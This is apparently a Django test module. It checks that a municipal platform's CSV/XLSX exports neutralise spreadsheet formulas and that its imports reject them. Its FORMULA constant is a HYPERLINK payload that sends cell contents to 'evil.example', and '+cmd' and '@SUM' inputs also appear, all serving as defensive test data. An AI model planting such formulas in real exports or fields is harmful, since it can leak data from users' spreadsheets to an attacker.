"""Every export writes text a spreadsheet would run as a formula with a leading quote, and every
import refuses such text in a text column, naming the row and the column."""

import csv
import datetime
import io
import json
import zipfile
from unittest import mock

from django.urls import reverse
from django.utils import translation
from openpyxl import load_workbook

from thetsaban import tabular
from thetsaban.coaching.models import Coach
from thetsaban.coaching.services import import_coaches
from thetsaban.coaching.tests.base import CoachingTestCase
from thetsaban.localdata.choices import ResourceKind
from thetsaban.localdata.models import Dataset, Resource
from thetsaban.localdata.tests.base import DataHubTestCase, observe
from thetsaban.participation.models import Proposal
from thetsaban.places.models import Lgu
from thetsaban.policy.choices import Level, RecommendationStatus
from thetsaban.policy.models import Recommendation
from thetsaban.policy.tests.base import PolicyTestCase
from thetsaban.privacy.register import Subject, export_zip, register_csv
from thetsaban.tabular import ImportRejected
from thetsaban.testing import ThetsabanTestCase
from thetsaban.transfers.importers import import_projects
from thetsaban.transfers.models import TransferProject
from thetsaban.transfers.tests.base import TransferTestCase

FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def xlsx_rows(content: bytes, sheet=0) -> list[tuple]:
    return list(load_workbook(io.BytesIO(content)).worksheets[sheet].iter_rows(values_only=True))


class CoachExportTests(CoachingTestCase):
    def setUp(self):
        translation.activate("en")
        self.addCleanup(translation.deactivate)
        self.coach = Coach.objects.select_related("person").first()
        self.coach.person.name_th = FORMULA
        self.coach.person.save()

    def test_staff_coach_export_neutralises_formulas_in_csv_and_xlsx(self):
        self.login(self.staff)
        rows = csv_rows(self.client.get(reverse("coaching:export")).content)
        row = next(r for r in rows if r[0] == str(self.coach.pk))
        self.assertEqual(row[1], "'" + FORMULA)
        rows = xlsx_rows(self.client.get(reverse("coaching:export") + "?format=xlsx").content)
        row = next(r for r in rows if r[0] == self.coach.pk)  # the id stays a number
        self.assertEqual(row[1], "'" + FORMULA)
        self.assertIsInstance(row[rows[0].index("capacity")], int)

    def test_exported_coaches_import_back_unchanged(self):
        self.login(self.staff)
        content = self.client.get(reverse("coaching:export")).content
        result = import_coaches(content, acting_user=None, filename="c.csv")
        self.assertEqual(result.created, 0)
        self.coach.person.refresh_from_db()
        self.assertEqual(self.coach.person.name_th, FORMULA)

    def test_import_refuses_formulas_in_name_and_email(self):
        text = ("name_th,email,home_province,languages\n"
                "สมชาย,somchai@example.org,90,th\n"
                "@SUM(1+1),=x@example.org,90,th\n")
        before = Coach.objects.count()
        with self.assertRaises(ImportRejected) as caught:
            import_coaches(text.encode(), acting_user=None, filename="c.csv")
        self.assertEqual([(p.row, p.column) for p in caught.exception.problems],
                         [(3, "name_th"), (3, "email")])
        self.assertIn("row 3, column name_th: starts with @", str(caught.exception))
        self.assertEqual(Coach.objects.count(), before)


class TransferExportTests(TransferTestCase):
    def setUp(self):
        TransferProject.objects.filter(pk=self.project.pk).update(title=FORMULA)

    def test_public_export_neutralises_formulas(self):
        self.login(None)
        rows = csv_rows(self.client.get(reverse("transfers:export", args=["csv"])).content)
        titles = [row[rows[0].index("title")] for row in rows[1:]]
        self.assertIn("'" + FORMULA, titles)
        self.assertNotIn(FORMULA, titles)
        rows = xlsx_rows(self.client.get(reverse("transfers:export", args=["xlsx"])).content)
        row = next(r for r in rows[1:] if r[0] == self.project.pk)
        self.assertEqual(row[rows[0].index("title")], "'" + FORMULA)

    def test_export_imports_back_and_formulas_are_refused(self):
        content = self.client.get(reverse("transfers:export", args=["csv"])).content
        import_projects(content, acting_user=self.staff)
        self.project.refresh_from_db()
        self.assertEqual(self.project.title, FORMULA)
        text = "title,target_lgu\n+cmd,SK\n"
        with self.assertRaises(ImportRejected) as caught:
            import_projects(text.encode(), acting_user=self.staff)
        self.assertEqual([(p.row, p.column) for p in caught.exception.problems], [(2, "title")])


    def test_xlsx_dates_stay_dates_and_import_back(self):
        TransferProject.objects.filter(pk=self.project.pk).update(planned_start=datetime.date(2026, 3, 10))
        content = self.client.get(reverse("transfers:export", args=["xlsx"])).content
        rows = xlsx_rows(content)
        row = next(r for r in rows[1:] if r[0] == self.project.pk)
        self.assertEqual(row[rows[0].index("planned_start")], datetime.datetime(2026, 3, 10))
        csv_row = next(r for r in csv_rows(self.client.get(reverse("transfers:export", args=["csv"])).content)
                       if r[0] == str(self.project.pk))
        self.assertIn("2026-03-10", csv_row)
        import_projects(content, acting_user=self.staff, filename="projects.xlsx")
        self.project.refresh_from_db()
        self.assertEqual((self.project.planned_start, self.project.title), (datetime.date(2026, 3, 10), FORMULA))

class PolicyReportExportTests(PolicyTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        Recommendation.objects.create(level=Level.POLICY, title="สูตร", problem="-2+3",
                                      recommendation=FORMULA, lgu_codes="SK",
                                      status=RecommendationStatus.PROPOSED, owner=cls.editor)

    def test_report_xlsx_neutralises_formulas(self):
        content = self.client.get(reverse("policy:report_xlsx")).content
        book = load_workbook(io.BytesIO(content))
        cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
        texts = [cell.value for cell in cells if isinstance(cell.value, str)]
        self.assertIn("'" + FORMULA, texts)
        self.assertIn("'-2+3", texts)
        self.assertFalse([cell for cell in cells if cell.data_type == "f"])
        counts = [row[1] for row in book.worksheets[0].iter_rows(values_only=True)
                  if isinstance(row[1] if len(row) > 1 else None, int)]
        self.assertTrue(counts)  # the summary's counts stay numbers


class LocalDataExportTests(DataHubTestCase):
    """The data hub's downloads: an indicator's comparison (CSV, XLSX) and a dataset's live extract."""

    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        Lgu.objects.filter(pk=cls.third_lgu.pk).update(name_th=FORMULA)
        observe(cls.rate, cls.lgu, "2024", "-2.5", category=FORMULA)
        cls.dataset = Dataset.objects.create(
            name="rate", owner_org=cls.office, title="อัตรา", indicator=cls.rate, objective=["พันธกิจหน่วยงาน"],
            data_format=["CSV"], data_language=["ไทย"], maintainer="ฝ่ายข้อมูล", maintainer_email="d@example.org",
            data_source="เทศบาล")
        cls.extract = Resource.objects.create(dataset=cls.dataset, name="CSV", format="CSV",
                                              kind=ResourceKind.EXTRACT_CSV)

    def download(self, extra=""):
        url = reverse("localdata:indicator_download", args=["waste"]) + "?period=2025&level=lgu" + extra
        return self.client.get(url).content

    def test_indicator_download_neutralises_area_names_and_keeps_values_numbers(self):
        rows = csv_rows(self.download())
        self.assertIn("'" + FORMULA, [row[1] for row in rows[1:]])
        self.assertNotIn(FORMULA, [row[1] for row in rows[1:]])
        rows = xlsx_rows(self.download("&format=xlsx"))
        row = next(r for r in rows[1:] if r[1] == "'" + FORMULA)
        self.assertEqual(row[3], 300)  # the value stays a number

    def test_extract_neutralises_categories_and_keeps_negative_values_numbers(self):
        rows = csv_rows(self.client.get(reverse("localdata:extract", args=["rate", self.extract.pk])).content)
        row = next(r for r in rows[1:] if r[3] == "2024")
        self.assertEqual(row[rows[0].index("category")], "'" + FORMULA)
        self.assertEqual(row[rows[0].index("value")], "-2.5000")


class PrivacyCopyExportTests(ThetsabanTestCase):
    """The copy of a member's data (PDPA access): each CSV in the ZIP is written by the tabular kit."""

    def test_a_members_text_is_quoted_in_the_copy(self):
        Proposal.objects.create(author=self.member, title="ข้อเสนอ", problem="-1+1", proposal=FORMULA)
        archive = zipfile.ZipFile(io.BytesIO(export_zip(Subject.of(self.member), reference="PDPA-1")))
        rows = csv_rows(archive.read("participation.Proposal.csv"))
        self.assertEqual(rows[1][rows[0].index("proposal")], "'" + FORMULA)
        self.assertEqual(rows[1][rows[0].index("problem")], "'-1+1")
        # The copy keeps the text as it was in data.json (not a spreadsheet).
        document = json.loads(archive.read("data.json"))
        record = next(r for r in document["records"] if r["model"] == "participation.Proposal")
        self.assertEqual(record["rows"][0]["proposal"], FORMULA)

    def test_the_register_csv_goes_through_the_kit(self):
        with mock.patch("thetsaban.privacy.register.tabular.write_csv", wraps=tabular.write_csv) as writer:
            register_csv()
        writer.assert_called_once()
